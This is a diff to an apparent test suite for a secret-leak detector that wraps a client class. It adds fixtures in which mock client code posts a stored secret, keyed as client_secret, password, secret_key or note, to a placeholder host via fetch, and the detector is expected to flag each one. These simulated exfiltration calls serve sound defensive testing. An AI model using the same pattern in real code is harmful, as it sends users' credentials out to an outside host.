@@ -109,13 +109,18 @@ const leaks = {
     },
     /a client id and secret/,
   ],
-  "a sent stored value in a result": [
-    async (clientOptions) => {
-      await clientOptions.fetch("https://h/", { body: JSON.stringify({ client_secret: stored }) });
-      return { message: stored };
-    },
-    /the value of a stored secret/,
-  ],
+  ...Object.fromEntries(
+    ["client_secret", "password", "secret_key", "note"].map((member) => [
+      `a sent ${member} in a result`,
+      [
+        async (clientOptions) => {
+          await clientOptions.fetch("https://h/", { body: JSON.stringify({ [member]: stored }) });
+          return { message: stored };
+        },
+        /the value of a stored secret/,
+      ],
+    ]),
+  ),
   "a token of an accessToken function in a result": [
     async (clientOptions) => ({ message: await clientOptions.accessToken({ refresh: false }) }),
     /an access token/,
@@ -173,8 +178,10 @@ test("does not look for a secret that is too short to be redacted", async () => 
 test("a watched client behaves like one that is not watched", async () => {
   const canaries = new Canaries(assert.fail);
   const Watched = watchedClass(Client, canaries);
-  for (const name of Object.getOwnPropertyNames(Client.prototype)) {
-    assert.ok(Object.hasOwn(Watched.prototype, name) || name === "close", `${name} is watched`);
+  for (const Class of [Client, Object.getPrototypeOf(Client)]) {
+    for (const name of Object.getOwnPropertyNames(Class.prototype)) {
+      assert.ok(Object.hasOwn(Watched.prototype, name) || name === "close", `${name} is watched`);
+    }
   }
   const optionsList = [
     undefined,
@@ -222,6 +229,7 @@ for (const [name, script, place, ...flags] of [
     ["the built package leaks a secret", "client"],
     ["a function of the package leaks a secret", "{ activate: (identifier) => activate(identifier, options) }"],
     ["another entry of the package leaks a secret", "slimClient"],
+    ["the package leaks a secret in a call on another kind of item", "client.passwords"],
   ].map(([name, callee]) => [
     name,
     `${prelude}
